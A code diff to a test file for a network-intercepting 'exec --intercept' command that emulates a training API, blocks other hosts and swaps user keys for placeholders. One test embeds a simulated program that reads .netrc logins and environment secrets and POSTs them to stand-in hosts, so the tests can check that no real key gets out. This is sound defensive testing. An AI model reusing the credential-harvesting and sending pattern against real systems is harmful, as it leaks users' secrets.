@@ -1,8 +1,10 @@
 import { spawnSync } from 'node:child_process'
-import { mkdirSync, readdirSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { once } from 'node:events'
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
+import { createServer, type AddressInfo } from 'node:net'
 import { join } from 'node:path'
-import { beforeAll, describe, expect, it } from 'vitest'
+import { beforeAll, describe, expect, it, onTestFinished } from 'vitest'
+import { temporaryFolder } from '../support/temporary-folder.js'
 import { assertBuilt, Command, type CommandOptions } from './command.js'
 
 beforeAll(assertBuilt)
@@ -33,13 +35,30 @@ const chats = (url: string, model: string): string => `
   const answer = await fetch('${url}/chat/completions', { method: 'POST', headers, body })
   console.log((await answer.json()).model)`
 
+/** Calls a URL with a module of Node. Resolves with the status, or why there is none. */
+const viaNode = `
+  const [http, https] = [require('http'), require('https')]
+  const get = (module, url) => new Promise((resolve) => {
+    const headers = { authorization: 'Bearer any-key' }
+    module.get(url, { headers }, (answer) => resolve(answer.resume().statusCode))
+      .on('error', ({ message }) => resolve(message))
+  })`
+
 describe('exec --intercept', { timeout: 30_000 }, () => {
-  it('answers a program that calls the real host', async () => {
-    const command = intercepted(calls('https://api.training.test/v1/health'))
+  it('answers a program that calls the real host, with and without fetch', async () => {
+    const url = 'https://api.training.test/v1/health'
+    const command = intercepted(`
+      ${viaNode}
+      ;(async () => {
+        ${calls(url)}
+        console.log(await get(https, '${url}'))
+        console.log(await get(http, '${url.replace('https', 'http')}'))
+        console.log(await get(http, process.env.SVTRAIN_BASE_URL + '/health'))
+      })()`)
     expect(await command.ended()).toBe(0)
-    expect(command.stdout).toBe('200\n')
+    expect(command.stdout).toBe('200\n200\n200\n200\n')
     expect(command.stderr).toBe(
-      'Hosts that the command called:\n  api.training.test  1 answered by the emulator\n',
+      'Hosts that the command called:\n  api.training.test  3 answered by the emulator\n',
     )
   })
 
@@ -63,11 +82,17 @@ describe('exec --intercept', { timeout: 30_000 }, () => {
   })
 
   it('refuses other hosts, and says how to allow them', async () => {
-    const command = intercepted(calls('https://elsewhere.test/'))
+    const command = intercepted(`
+      ${viaNode}
+      ;(async () => {
+        ${calls('https://elsewhere.test/')}
+        console.log(await get(https, 'https://elsewhere.test/'))
+        console.log(await get(http, 'http://elsewhere.test/'))
+      })()`)
     expect(await command.ended()).toBe(0)
-    expect(command.stdout).not.toMatch(/^\d/)
+    expect(command.stdout).not.toMatch(/^(?!403)\d|ENOTFOUND/m)
     expect(command.stderr).toContain(
-      'elsewhere.test  1 refused; to allow it: --allow-host-out elsewhere.test',
+      'elsewhere.test  3 refused; to allow it: --allow-host-out elsewhere.test',
     )
   })
 
@@ -77,33 +102,114 @@ describe('exec --intercept', { timeout: 30_000 }, () => {
     expect(command.stderr).toMatch(/^No host was called through the proxy\. /)
   })
 
-  it('replaces each variable that would lead past it, and the own key of the user', async () => {
+  it('replaces each variable that would lead past it', async () => {
     const env = {
-      WANDB_API_KEY: 'a-real-key-of-the-user-that-must-never-leave-this-machine',
       HTTPS_PROXY: 'http://proxy.test:3128',
       no_proxy: 'api.training.test',
       WANDB_MODE: 'disabled',
+      LITELLM_LOCAL_MODEL_COST_MAP: '',
     }
     const command = intercepted('console.log(JSON.stringify(process.env))', HOST, { env })
     expect(await command.ended()).toBe(0)
     const variables = JSON.parse(command.stdout) as Record<string, string>
-    expect(command.stdout).not.toMatch(/a-real-key|proxy\.test/)
+    expect(command.stdout).not.toMatch(/proxy\.test/)
     expect(variables['WANDB_API_KEY']!.length).toBeGreaterThanOrEqual(40)
     expect(variables['HTTPS_PROXY']).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/)
     expect(variables['no_proxy']).toBe('127.0.0.1,::1,localhost')
     expect(variables['WANDB_MODE']).toBe('online')
+    expect(variables['LITELLM_LOCAL_MODEL_COST_MAP']).toBe('True')
   })
 
-  it('leaves no files, also after a kill', async () => {
-    const folder = join(tmpdir(), 'svtrain-emulator-intercept-1999999999-aaaaaa')
-    mkdirSync(folder, { recursive: true })
-    const command = intercepted('console.log(process.env.SSL_CERT_FILE)')
+  it('lets no key of the user out, even if the program sends all that it knows', async () => {
+    const folder = temporaryFolder()
+    const keys = ['a1b2c3d4e5'.repeat(4), 'f6a7b8c9d0'.repeat(4)]
+    writeFileSync(
+      join(folder, '.netrc'),
+      `machine api.training.test login user password ${keys[1]}`,
+    )
+    let seen = ''
+    const upstream = createServer((socket) => {
+      socket.on('data', (bytes) => {
+        const isTunnel = String(bytes).startsWith('CONNECT ')
+        seen += String(bytes)
+        if (isTunnel) socket.write('HTTP/1.1 200 OK\r\n\r\n')
+        else if (seen.includes('WANDB_API_KEY')) socket.end('HTTP/1.1 204 No Content\r\n\r\n')
+      })
+      socket.on('error', () => {})
+    })
+    onTestFinished(() => void upstream.close())
+    upstream.listen(0, '127.0.0.1')
+    await once(upstream, 'listening')
+    const { port } = upstream.address() as AddressInfo
+    const command = intercepted(
+      `
+      const { readFileSync } = require('fs')
+      const body = JSON.stringify({ ...process.env, logins: readFileSync(process.env.NETRC, 'utf8') })
+      const authorization = 'Bearer ' + process.env.WANDB_API_KEY
+      const options = { method: 'POST', headers: { authorization }, body }
+      const urls = ['https://api.training.test/v1/health', 'http://outside.test/', 'https://refused.test/']
+      Promise.allSettled(urls.map((url) => fetch(url, options))).then(() => console.log(body))`,
+      [
+        ...HOST,
+        '--allow-host-out',
+        'outside.test',
+        '--log',
+        'json',
+        '--har',
+        join(folder, 'all.har'),
+      ],
+      { env: { WANDB_API_KEY: keys[0]!, HOME: folder, https_proxy: `http://127.0.0.1:${port}` } },
+    )
     expect(await command.ended()).toBe(0)
-    const [own = ''] = /svtrain-emulator-intercept-\d+-\w+/.exec(command.stdout) ?? []
-    expect(own).not.toBe('')
-    const left = readdirSync(tmpdir())
-    expect(left).not.toContain(own)
-    expect(left).not.toContain('svtrain-emulator-intercept-1999999999-aaaaaa')
+    const files = readFileSync(join(folder, 'all.har'), 'utf8')
+    const all = seen + command.output + files
+    for (const key of keys) expect(all).not.toContain(key)
+    // The same form: 40 hexadecimal digits.
+    expect(seen).toContain(`"WANDB_API_KEY":"${'0'.repeat(40)}"`)
+    expect(command.stderr).toMatch(/outside\.test +1 passed on/)
+    expect(command.stderr).toMatch(/refused\.test +1 refused/)
+  })
+
+  it('leaves no files', async () => {
+    const TMPDIR = temporaryFolder()
+    const command = intercepted('console.log(process.env.SSL_CERT_FILE)', HOST, { env: { TMPDIR } })
+    expect(await command.ended()).toBe(0)
+    expect(command.stdout).toContain(`${TMPDIR}/svtrain-emulator-intercept-`)
+    expect(readdirSync(TMPDIR)).toEqual([])
+  })
+
+  it('may be killed at any moment: the program reaches nobody, and the next start cleans up', async () => {
+    const TMPDIR = temporaryFolder()
+    // The call never ends by itself. Afterwards, the program tries the real host once more.
+    const program = `
+      ${viaNode}
+      const url = 'https://api.training.test/v1/health'
+      const call = https.request(url, { method: 'POST', headers: { 'content-length': 9 } })
+      call.on('error', async ({ code }) => console.log(code, await get(https, url)))
+      call.on('finish', () => console.log('sent')).write('x')
+      call.on('socket', (socket) => socket.on('secure', () => console.log('calling')))
+      console.log('started')`
+    const start = () => intercepted(program, HOST, { env: { TMPDIR } })
+    const hasFolder = () => expect.poll(() => readdirSync(TMPDIR).length, { timeout: 20_000 })
+    const moments = [
+      async () => {},
+      async () => hasFolder().toBeGreaterThan(0),
+      async (command: Command) => void (await command.says(/started/)),
+      async (command: Command) => void (await command.says(/calling/)),
+    ]
+    for (const moment of moments) {
+      const command = start()
+      await moment(command)
+      command.process.kill('SIGKILL')
+      // Its output ends when the program has ended, too.
+      await command.ended()
+      if (command.stdout.includes('calling')) {
+        expect(command.stdout).toMatch(/^ECONNRESET .*ECONNREFUSED 127\.0\.0\.1/m)
+      }
+    }
+    expect(readdirSync(TMPDIR).length).toBeGreaterThan(0)
+    expect(await intercepted('', HOST, { env: { TMPDIR } }).ended()).toBe(0)
+    expect(readdirSync(TMPDIR)).toEqual([])
   })
 
   it.each([
